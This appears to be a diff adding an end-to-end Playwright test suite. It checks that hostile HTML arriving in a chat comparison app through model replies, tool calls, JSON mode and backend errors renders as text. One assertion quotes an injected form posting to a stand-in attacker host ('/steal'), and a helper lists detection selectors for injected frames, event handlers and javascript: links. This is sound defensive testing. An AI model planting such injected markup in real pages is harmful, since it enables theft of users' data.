@@ -1,0 +1,103 @@
+"""End to end: hostile HTML from replies, tool calls, JSON mode and backend errors renders nothing live in chromium."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.e2e.test_compare import send
+from tests.e2e.test_hermes_modes import choose_mode
+from tests.support.app_process import running_app
+from tests.support.payloads import ATTACKER, PAYLOADS
+from tests.support.tgi_protocol import Behavior
+
+pytest_plugins = ["tests.support.fixtures"]
+pytestmark = pytest.mark.e2e
+
+ALL = "\n\n".join(PAYLOADS)
+ATTACKER_HOST = ATTACKER.split("//")[1].split(":")[0]
+TOOL_REPLY = "".join(f'<tool_call>\n{{"arguments": {{"q": {json.dumps(p)}}}, "name": {json.dumps(p)}}}\n</tool_call>\n'
+                     for p in PAYLOADS[:6])
+
+
+def watch_requests(page: Page) -> list[str]:
+    urls: list[str] = []
+    page.on("request", lambda request: urls.append(request.url))
+    return urls
+
+
+def assert_nothing_live(page: Page, requests: list[str], scope: str = ".pane") -> None:
+    """No element a payload brought in (in ``scope``): forms, fields, frames, its buttons, handlers, styles;
+    and no request out from the whole page."""
+    for selector in ("form", "iframe", "textarea:not([data-testid])", "select", "object", "embed", "meta[http-equiv]",
+                     "[placeholder='type here']", "svg[onload]", "img[src*='attacker']"):
+        assert page.locator(f"{scope} {selector}").count() == 0, selector
+    assert page.locator(f"{scope} button", has_text="Go").count() == 0
+    assert page.locator(f"{scope} button", has_text="in code").count() == 0
+    for attribute in ("onerror", "onclick", "onload", "ontoggle"):
+        assert page.locator(f"{scope} [{attribute}]").count() == 0, attribute
+    styled = page.locator(", ".join(f"{scope} [style*='{style}']" for style in ("background:red", "color:red",
+                                                                                  "position:fixed")))
+    assert styled.count() == 0, [styled.nth(i).evaluate("e => e.parentElement.outerHTML.slice(0, 400)")
+                                 for i in range(styled.count())]
+    assert page.locator(".pane a[href^='javascript:']").count() == 0
+    assert page.evaluate("getComputedStyle(document.body).display") != "none"
+    assert not [url for url in requests if ATTACKER_HOST in url]
+
+
+def failing_turn(page: Page, tgi_server_factory) -> tuple[list[str], object]:
+    reply = tgi_server_factory(behavior=Behavior(text=f"Here:\n\n{ALL}\n\n<PLAN>{PAYLOADS[0]}</PLAN>Done."))
+    failing = tgi_server_factory(behavior=Behavior(failure="error_event", fail_after=2, error_type="generation",
+                                                   error_message=" ".join(PAYLOADS)))
+    return watch_requests(page), running_app(["--backend", f"Reply={reply.url}", "--backend", f"Error={failing.url}"])
+
+
+@pytest.mark.xfail(strict=True, reason="ui/vote.py shows a failed pane's backend error unescaped in the vote status "
+                                       "line (voting.vote_problem -> turn_record.not_votable_reason); see issue 9")
+def test_a_backend_error_renders_nothing_live_anywhere_on_the_page(page: Page, tgi_server_factory):
+    requests, app = failing_turn(page, tgi_server_factory)
+    with app as (url, _):
+        page.goto(url)
+        send(page, "Hello")
+        expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error", timeout=15_000)
+        page.wait_for_timeout(1000)
+        assert_nothing_live(page, requests, scope="body")
+
+
+def test_payloads_in_a_reply_a_user_message_and_an_error_render_as_text(page: Page, tgi_server_factory):
+    requests, app = failing_turn(page, tgi_server_factory)
+    with app as (url, _):
+        page.goto(url)
+        send(page, PAYLOADS[0] + " " + PAYLOADS[2])
+        chat = page.locator("#pane-0-chat")
+        expect(chat).to_contain_text("Done.", timeout=15_000)
+        expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error", timeout=15_000)
+        expect(chat).to_contain_text('<form action="http://attacker.invalid:9/steal">')  # shown, as text
+        expect(page.locator("#pane-1-chat")).to_contain_text("<iframe src=")
+        page.wait_for_timeout(500)  # let any image, frame or refresh fire
+        assert_nothing_live(page, requests)
+
+
+def test_payloads_in_tool_calls_and_json_mode_render_as_text(page: Page, tgi_server_factory):
+    tools = tgi_server_factory(behavior=Behavior(text=TOOL_REPLY))
+    requests = watch_requests(page)
+    with running_app(["--backend", f"Tools={tools.url}", "--backend", f"Also={tools.url}"]) as (url, _):
+        page.goto(url)
+        choose_mode(page, "Function calling")
+        send(page, "Call the tools")
+        expect(page.locator("#pane-0-metrics")).to_contain_text("tool call", timeout=15_000)
+        for title in page.locator("#pane-0-chat button", has_text="invalid").all()[:3]:
+            title.click()  # open tool steps: their bodies render too
+        assert_nothing_live(page, requests)
+
+    json_reply = json.dumps({"name": PAYLOADS[0], "age": PAYLOADS[2]})
+    server = tgi_server_factory(behavior=Behavior(text=json_reply))
+    with running_app(["--backend", f"Json={server.url}", "--backend", f"Again={server.url}"]) as (url, _):
+        page.goto(url)
+        choose_mode(page, "JSON mode")
+        send(page, "Describe a character")
+        expect(page.locator("#pane-0-chat")).to_contain_text("JSON ❌ invalid", timeout=15_000)
+        page.wait_for_timeout(500)
+        assert_nothing_live(page, requests)
